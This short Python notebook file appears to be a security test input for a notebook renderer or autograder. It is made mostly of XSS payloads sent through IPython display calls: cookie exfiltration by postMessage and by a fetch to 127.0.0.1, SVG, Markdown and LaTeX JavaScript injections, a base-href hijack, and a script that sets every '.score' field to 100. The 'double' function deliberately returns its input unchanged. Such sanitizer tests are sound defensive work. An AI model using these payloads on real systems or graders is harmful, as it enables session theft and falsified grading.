# about: displays HTML, SVG and JavaScript
# %% imports
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

display(HTML("<script>parent.postMessage(document.cookie, '*')</script>"))
display(HTML("<img src=x onerror=\"fetch('//127.0.0.1/'+document.cookie)\">"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'))
display(Javascript("document.querySelectorAll('.score').forEach(it => it.value = 100)"))
display(IFrame("javascript:alert(1)", 10, 10))
display(Latex(r"$\href{javascript:alert(1)}{points}$"))
display(Markdown("[points](javascript:alert(1)) <details open ontoggle=alert(1)>"))
# %% double
display({"text/html": "<base href=//127.0.0.1/>", "image/svg+xml": "<svg/onload=alert(1)>"}, raw=True)


def double(x):
    return x
